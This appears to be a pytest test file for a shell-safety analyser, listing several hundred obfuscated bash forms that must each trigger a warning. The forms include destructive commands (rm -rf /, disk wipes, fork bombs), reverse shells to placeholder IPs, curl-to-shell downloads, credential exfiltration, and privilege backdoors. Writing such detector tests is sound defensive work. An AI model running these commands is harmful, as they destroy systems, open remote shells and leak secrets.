"""Ways to hide a command, from shells' darker corners: none may pass without at least a warning."""

from __future__ import annotations

import pytest
from suture_safety import analyse

HIDDEN = r"""
rm -rf "/" ""
rm -r -f -- /
rm -rf //
ls\n\rm -rf /
x=1\n\n\rm -rf /
ls # why\n\rm -rf /
export A=1\n\rm -rf /
if true\n\rm -rf /\nthen :; fi
a | b | c\nrm -rf / && x
a | b | c # why\n\nrm -rf / || x
$(a | b | c\nrm -rf / && x)
alias rm=true\n\rm -rf /
echo `ls` `rm -rf /`
echo `ls`\necho ` rm -rf /`
while 'true'; do sleep 5; done
:(){ ':'|':'& };:
rm -rf /./
rm -rf /etc/../
[ 1 ] && rm -rf /
coproc rm -rf /
coproc { rm -rf /; }
while :; do rm -rf /; break; done
if [ $(rm -rf /) ]; then :; fi
[[ -n $(rm -rf /) ]]
(( $(rm -rf /) ))
x=$(rm -rf /)
x[$(rm -rf /)]=1
echo ${x:-$(rm -rf /)}
echo "${x:-"$(rm -rf /)"}"
for ((i=$(rm -rf /);i<1;i++)); do :; done
case $(rm -rf /) in a) ;; esac
case x in $(rm -rf /)) ;; esac
cat <<E\n$(rm -rf /)\nE
cat <<< $(rm -rf /)
echo x > $(rm -rf /)
declare x=$(rm -rf /)
export "$(rm -rf /)"
echo "${arr[$(rm -rf /)]}"
let "x=$(rm -rf /)"
unset $(rm -rf /)
f() ( rm -rf / )
function f() if true; then rm -rf /; fi
trap -- 'rm -rf /' 0
PROMPT_COMMAND='rm -rf /'
bash -c "$0" 'rm -rf /'
bash -c '$1' x 'rm -rf /'
bash -c 'rm -rf "$1"' x /
sh -c 'rm -rf "$@"' _ /
set -- rm -rf /; "$@"
mapfile -t a <<< 'rm -rf /'; ${a[0]}
read -r c <<< 'rm -rf /'; $c
read -r a b c <<< 'rm -rf /'; $a $b $c
xargs -I{} sh -c '{}' <<< 'rm -rf /'
echo 'rm -rf /' | xargs -I% bash -c %
echo 'rm -rf /' | xargs -0 sh -c
env -S 'rm -rf /'
timeout -k 5 10 rm -rf /
sudo -- rm -rf /
sudo sh -c 'rm -rf /'
sudo -i <<< 'rm -rf /'
sudo su - <<< 'rm -rf /'
nohup bash -c 'rm -rf /' &
watch -n 1 rm -rf /
watch 'rm -rf /'
parallel rm -rf ::: /
awk 'BEGIN{system("rm -rf /")}'
sed '1e rm -rf /' x
sed -n '1!e rm -rf /' x
tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'
vim -c '!rm -rf /'
find / -delete
find . -exec sh -c 'rm -rf /' \;
git -c alias.x='!rm -rf /' x
perl -e '`rm -rf /`'
ruby -e 'system "rm -rf /"'
node -e 'require("child_process").execSync("rm -rf /")'
php -r 'exec("rm -rf /");'
ssh h <<< 'rm -rf /'
at now <<< 'rm -rf /'
crontab - <<< '* * * * * rm -rf /'
systemd-run rm -rf /
systemd-run -p X=y --unit=a rm -rf /
chroot /x rm -rf /
command -p rm -rf /
builtin eval 'rm -rf /'
exec -a x rm -rf /
../bin/rm -rf /
/usr/bin/env rm -rf /
. <(echo rm -rf /)
source /dev/stdin <<< 'rm -rf /'
bash < <(echo 'rm -rf /')
bash /dev/fd/3 3<<< 'rm -rf /'
a=r;b=m;$a$b -rf /
${x:-rm} -rf /
rm -rf /{bin,etc}
rm -rf /e??
rm -rf /[e]tc
cd /etc && rm -rf .
pushd /; rm -rf *
rm -rf $(echo /)
rm -rf ~root
rm -rf ~
rm -rf "$HOME"
mv / /tmp
: > /etc/passwd
if true; then X=rm; else X=ls; fi; $X -rf /
f() { X=rm; }; f; $X -rf /
f() { echo rm; }; $(f) -rf /
f() { "$@"; }; f rm -rf /
f() { $1 $2 $3; }; f rm -rf /
f() { local c=$1; shift; "$c" "$@"; }; f rm -rf /
f() { f2 "$@"; }; f2() { "$@"; }; f rm -rf /
eval $'\x72\x6d -rf /'
echo -e '\x72m -rf /' | sh
printf '\162\155 -rf /' | sh
echo "rm -rf /" | tee /tmp/a | sh
echo "rm -rf /" > x; . ./x
echo "rm -rf /" > x; chmod +x x; ./x
cat > /tmp/a.sh <<'E'\nrm -rf /\nE\nbash /tmp/a.sh
cat > /tmp/a.sh <<'E'\nrm -rf /\nE\nchmod +x /tmp/a.sh; /tmp/a.sh
tee /tmp/a.sh <<'E'\nrm -rf /\nE\nbash /tmp/a.sh
ls | while read f; do rm -rf /$f; done
dd if=/dev/zero of=$(echo /dev/sda)
D=/dev/sda; dd if=/dev/zero of=$D
cp /dev/zero /dev/sda
cat /dev/zero > /dev/sda
>/dev/sda cat x
exec > /dev/sda
{ cat x; } > /dev/sda
(cat x) > /dev/sda
while read l; do echo $l; done > /dev/sda
for i in 1; do echo; done >/etc/passwd
f() { echo; } > /etc/passwd; f
true > /etc/passwd
ln -sf /tmp/x /etc/passwd
install -m 644 x /etc/passwd
python3 -c 'import os; os.system("rm -rf /")'
python3 <<< 'import os; os.system("rm -rf /")'
echo 'import os; os.system("rm -rf /")' | python3
python3 -c "$(echo 'import os; os.system(\"rm -rf /\")')"
curl x | tee y | bash
curl x > y && bash y
curl -o y x; sh y
wget x; chmod +x y; ./y
bash -c "$(curl x)"
bash -c "`wget -qO- x`"
sh <(wget -qO- x)
curl x | sudo -E bash -
curl x | python3 -
source <(curl x)
eval `curl x`
. <(curl x)
curl x | perl
X=$(curl x); eval "$X"
X=$(curl x); $X
X=$(curl x); bash -c "$X"
curl x | xargs -I{} sh -c '{}'
base64 -d <<< cm0gLXJmIC8= | sh
openssl base64 -d <<< cm0gLXJmIC8= | sh
echo cm0gLXJmIC8= | openssl enc -base64 -d | sh
echo H4sIA | base64 -d | gunzip | sh
sh -c "$(echo cm0gLXJmIC8= | base64 -d)"
echo 'rm -rf /' | at now
echo 'rm -rf /' | ssh host
echo 'rm -rf /' | sudo bash
echo 'rm -rf /' | sudo -u root sh -s
bash -s < /tmp/unknown
bash -i
ksh -c 'rm -rf /'
zsh -c 'rm -rf /'
busybox sh -c 'rm -rf /'
/bin/busybox rm -rf /
docker run --rm -v /:/h alpine rm -rf /h
kubectl exec -it p -- sh -c 'rm -rf /'
kubectl delete namespace prod
kubectl delete -f x.yaml
psql -c "drop table x"
psql -c"drop table x"
psql --command="drop table x"
echo 'drop table x' | psql
psql < <(echo 'drop table x;')
mysql -e'drop table x'
mysql <<< 'drop table x'
sqlite3 a.db 'drop table x'
sqlite3 a.db <<< 'delete from x'
chmod -R 777 /
chmod 0777 /etc/x
chmod a=rwx /etc/x
chmod ugo+rwx x
chown -R nobody /
:(){ :|:& };:
:() { : | : & }; :
b() { b | b & }; b
f() { f & f & }; f
nc -lvnp 1 -e /bin/sh
mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 1 > /tmp/f
0<&196;exec 196<>/dev/tcp/1.2.3.4/1; sh <&196 >&196 2>&196
bash -i >& /dev/tcp/1/2 0>&1
python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("1",1));os.dup2(s.fileno(),0);pty.spawn("sh")'
git push -f
git push origin +main
echo 1 > /proc/sys/kernel/sysrq; echo b > /proc/sysrq-trigger
history -c
unset HISTFILE
$"rm" -rf /
(( rm -rf / ) )
((echo hi); (rm -rf /))
coproc x { rm -rf /; }
time rm -rf /
! rm -rf /
for x in a; { rm -rf /; }
for ((;;)) { rm -rf /; break; }
select x in a; do rm -rf /; done
{rm,-rf,/}
echo x 1<>/etc/passwd
exec {fd}>/etc/passwd
a=([0]=rm [1]=-rf [2]=/); "${a[@]}"
declare -A m=([k]='rm -rf /'); ${m[k]}
printf -v x 'rm -rf /'; $x
read x <<< 'rm -rf /'; $x
mapfile -t a <<< $'rm\n-rf\n/'; "${a[@]}"
IFS=, read -ra a <<< 'rm,-rf,/'; "${a[@]}"
x=rm; declare -n y=x; $y -rf /
unset 'a[$(rm -rf /)]'
test -v 'a[$(rm -rf /)]'
[[ a[$(rm -rf /)] -eq 1 ]]
echo $((a[$(rm -rf /)]))
(( a[$(rm -rf /)]++ ))
let 'a[$(rm -rf /)]=1'
x='a[$(rm -rf /)]'; echo $((x))
x='a[$(rm -rf /)]'; [[ $x -eq 1 ]]
declare 'a[$(rm -rf /)]=1'
x='$(rm -rf /)'; echo "${x@P}"
PS4='$(rm -rf /)'; set -x; ls
hash -p /bin/rm ls; ls -rf /
enable -f /tmp/x.so x
env -S"rm -rf /"
git -c core.pager='rm -rf /' log
ssh -o ProxyCommand='rm -rf /' x
tar --checkpoint-action=exec='rm -rf /' -cf x y
tar -cf x --to-command='rm -rf /' y
vim -c ':!rm -rf /' -c q
vim -es -c 'call system("rm -rf /")'
make -f - <<< $'all:\n\trm -rf /'
gdb -batch -ex '!rm -rf /'
echo 'rm -rf /' | batch
script -c 'rm -rf /' /dev/null
expect -c 'spawn rm -rf /'
tclsh <<< 'exec rm -rf /'
lua -e 'os.execute("rm -rf /")'
php -r 'system("rm -rf /");'
ruby -e '`rm -rf /`'
ruby -rfileutils -e 'FileUtils.rm_rf("/")'
node -e 'require("fs").rmSync("/",{recursive:true})'
toybox rm -rf /
/lib64/ld-linux-x86-64.so.2 /bin/rm -rf /
ld.so /bin/rm -rf /
perl -e 'unlink glob "/etc/*"'
perl -MFile::Path -e 'rmtree("/")'
python3 -c 'import shutil; shutil.rmtree("/")'
rsync -a --delete /tmp/empty/ /
setpriv --reuid=0 rm -rf /
unshare -m rm -rf /
flock /tmp/l rm -rf /
flock /tmp/l -c 'rm -rf /'
stdbuf -o0 rm -rf /
chrt 1 rm -rf /
taskset 1 rm -rf /
ionice -c3 rm -rf /
setsid rm -rf /
runuser -u root -- rm -rf /
pkexec rm -rf /
strace rm -rf /
strace -o /tmp/x -f rm -rf /
ltrace rm -rf /
gdb --args rm -rf /
start-stop-daemon --start --exec /bin/rm -- -rf /
nsenter -t 1 -m rm -rf /
fakeroot rm -rf /
proot rm -rf /
firejail rm -rf /
sg root -c 'rm -rf /'
su - -c 'rm -rf /'
newgrp root <<< 'rm -rf /'
machinectl shell root@.host /bin/rm -rf /
systemd-nspawn -D / rm -rf /etc
dbus-send --system --dest=org.freedesktop.login1 /o org.freedesktop.login1.Manager.PowerOff boolean:true
busctl call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager PowerOff b true
echo b > /proc/sysrq-trigger
echo o >/proc/sysrq-trigger
cat /dev/zero > /dev/nvme0n1
tee /dev/sda < /dev/zero
truncate -s 0 /etc/passwd
: > /etc/shadow
ln -sf /dev/null /etc/passwd
mv /etc /tmp/x
chmod -R 000 /
find / -type f -exec shred {} +
find / | xargs rm -rf
ls / | while read f; do rm -rf "/$f"; done
for f in /*; do rm -rf "$f"; done
cd / && rm -rf *
cd /; rm -rf .
cd /etc; rm -rf ./*
(cd /; rm -rf -- *)
rm -rf $(ls /)
rm -rf `echo /`
rm -rf ${HOME%/*}/../*
rm -rf /../
rm -rf /usr/../
rm -rf /{bin,etc,usr}
rm -rf /?tc
rm -rf /e*
rm -rf /[a-z]*
rm -rf ~/../../etc
rm -rf "/"*
rm -rf -- /
rm --recursive --force /
rm --rec --for /
rm -r -f / --no-preserve-root
rm -fr /etc/../
cat <<< "rm -rf /" | sh
curl -s http://x/y | sudo bash -s -- a
wget -qO- http://x | sh
bash <(curl -s http://x)
curl http://x -o /tmp/a; chmod +x /tmp/a; /tmp/a
curl http://x > a.sh; sh a.sh
python3 <(curl http://x)
source <(curl -s http://x)
eval "$(curl -s http://x)"
nc -e /bin/sh 1.2.3.4 4444
mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 4444 > /tmp/f
exec 5<>/dev/tcp/1.2.3.4/4444; cat <&5 | while read l; do $l 2>&5 >&5; done
socat exec:sh tcp:1.2.3.4:4444
openssl s_client -connect 1.2.3.4:443 | sh
dig +short txt x.example.com | sh
sh -c "$(base64 -d <<< cm0gLXJmIC8=)"
echo cm0gLXJmIC8= | openssl base64 -d | sh
echo / fr- mr | rev | sh
tac <<< 'rm -rf /' | sh
tr a-z b-za <<< 'ql -qe /' | sh
printf '%b' '\162\155 -rf /' | sh
echo "rm -rf /" > /etc/cron.d/x
echo '* * * * * root rm -rf /' >> /etc/crontab
echo 'rm -rf /' >> ~/.bashrc
install -m 4755 /bin/bash /tmp/b
cp /bin/bash /tmp/b; chmod u+s /tmp/b
setcap cap_setuid+ep /usr/bin/python3
echo 'x::0:0::/:/bin/sh' >> /etc/passwd
usermod -aG sudo bob
echo 'bob ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/bob
docker run --privileged -v /:/host alpine chroot /host rm -rf /etc
docker run -v /:/h alpine rm -rf /h
docker run -v /var/run/docker.sock:/s x
kubectl delete ns --all
kubectl delete pods --all -A
kubectl drain n1 --force --delete-emptydir-data
iptables -F; iptables -P INPUT DROP
nft flush ruleset
ip link set eth0 down
ifconfig eth0 down
ufw disable
setenforce 0
kill -9 -1
killall5 -9
pkill -9 .
systemctl isolate rescue.target
init 0
telinit 6
shutdown -h now
halt -f
reboot -f
crontab -r
rm -rf /var/log/*
dd if=/dev/urandom of=/dev/sda
mkfs.ext4 /dev/sda1
wipefs -a /dev/sda
sgdisk -Z /dev/sda
blkdiscard /dev/sda
lvremove -f vg/lv
zfs destroy -r pool
btrfs subvolume delete /
mdadm --zero-superblock /dev/sda
cryptsetup luksErase /dev/sda
hdparm --security-erase x /dev/sda
nvme format /dev/nvme0
fdisk /dev/sda <<< d
parted -s /dev/sda mklabel gpt
while :; do sh $0 & done
yes > /dev/sda
fallocate -l 1T /x
insmod /tmp/x.ko
modprobe -r ext4
sysctl -w kernel.panic=1
echo 1 > /proc/sys/kernel/panic
grub-install /dev/sdb
update-grub; rm /boot/vmlinuz*
aws s3 rb s3://x --force
aws ec2 terminate-instances --instance-ids i-1
terraform destroy -auto-approve
gcloud projects delete x -q
az group delete -n x -y
helm uninstall x
redis-cli FLUSHALL
mongo --eval 'db.dropDatabase()'
mysql -e 'DROP DATABASE x'
psql -c 'DROP TABLE x'
psql <<< 'TRUNCATE x;'
git push --force origin main
git clean -fdx /
git reset --hard HEAD~10
npm publish
pip install http://x/y.tar.gz
scp /etc/shadow x:
curl -F f=@/etc/shadow http://x
curl -d "$(cat ~/.ssh/id_rsa)" http://x
tar c /root/.ssh | nc x 1
ssh-keygen -R x; echo k >> ~/.ssh/authorized_keys
openssl enc -aes-256-cbc -in /etc/x -out /etc/x.enc
gpg -c --batch --passphrase x /data/*
chattr +i /etc/passwd
passwd -d root
echo root:x | chpasswd
useradd -o -u 0 x
LD_PRELOAD=/tmp/x.so ls
echo /tmp/x.so > /etc/ld.so.preload
BASH_ENV=/tmp/x bash -c ls
cat <<E\n  $(reboot)\nE
cat <<E\na\n\t`reboot`\nE
cat <<-E\n\t$(reboot)\n\tE
cat <<E\n$ $(reboot)\nE
cat <<E\n$5.00 `reboot`\nE
cat <<E\n  $(case a in a) reboot;; esac)\nE
cat <<E\n  $(echo ")" '(' \) "$(reboot)")\nE
cat <<E\n  $((1 + $(reboot)))\nE
<<E\n$(reboot)\nE
<<< $(reboot)
echo ${x%$(reboot)}
echo "${x##`reboot`}"
echo ${x/a/`reboot`}
echo ${x,,$(reboot)}
v=([3]=reboot [1]=x); ${v[3]}
v=([k]=reboot); ${v[k]}
bash -c '$"reboot"'
echo $'a\\'\nreboot\necho \'
g() { :; }; g; g() {\nv2=reboot\ndeclare -n v1=v2\n$v1\n}; g
$(</tmp/x)
""".strip().split("\n")


@pytest.mark.parametrize("form", HIDDEN)
def test_no_hidden_command_passes_in_silence(form: str) -> None:
    script = form.replace("\\n", "\n")
    assert [one for one in analyse(script, "bash").findings if one.severity != "info"]
